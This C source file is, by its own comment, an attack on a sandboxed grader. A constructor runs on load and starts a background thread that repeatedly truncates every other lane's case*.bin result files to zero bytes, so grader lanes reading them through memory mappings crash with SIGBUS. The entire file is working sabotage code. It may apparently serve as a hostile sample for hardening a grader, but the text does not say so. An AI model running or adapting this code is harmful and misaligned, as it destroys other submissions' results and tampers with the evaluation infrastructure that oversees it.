// The attack: a thread started with the process cuts every other lane's
// result files (box/laneN/case*.bin; the process runs in the box, its own
// lane named in its arguments) to zero bytes, over and over, until the
// process ends.  A lane of the grader that is reading one of them through
// a mapping at that moment takes SIGBUS.
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static char own_lane[64];
static void *cut_others(void *)
{
    for (;;) {
        DIR *box = opendir(".");
        for (struct dirent *e; box && (e = readdir(box));) {
            if (strncmp(e->d_name, "lane", 4) != 0 || strcmp(e->d_name, own_lane) == 0)
                continue;
            DIR *lane = opendir(e->d_name);
            for (struct dirent *f; lane && (f = readdir(lane));) {
                size_t n = strlen(f->d_name);
                if (strncmp(f->d_name, "case", 4) == 0 && n > 4 && strcmp(f->d_name + n - 4, ".bin") == 0) {
                    char path[512];
                    snprintf(path, sizeof path, "%s/%s", e->d_name, f->d_name);
                    int fd = open(path, O_WRONLY);
                    if (fd >= 0) {
                        ftruncate(fd, 0);
                        close(fd);
                    }
                }
            }
            if (lane)
                closedir(lane);
        }
        if (box)
            closedir(box);
    }
    return NULL;
}
__attribute__((constructor)) static void attack_start(void)
{
    char args[4096] = "";
    int fd = open("/proc/self/cmdline", O_RDONLY);
    ssize_t got = fd >= 0 ? read(fd, args, sizeof args - 1) : -1;
    if (fd >= 0)
        close(fd);
    for (ssize_t i = 0; i + 4 < got; i++) /* the lane in "PATH/laneN/case" */
        if (memcmp(args + i, "/lane", 5) == 0) {
            snprintf(own_lane, sizeof own_lane, "%.*s", (int)strcspn(args + i + 1, "/"), args + i + 1);
            break;
        }
    pthread_t t;
    pthread_create(&t, NULL, cut_others, NULL);
}
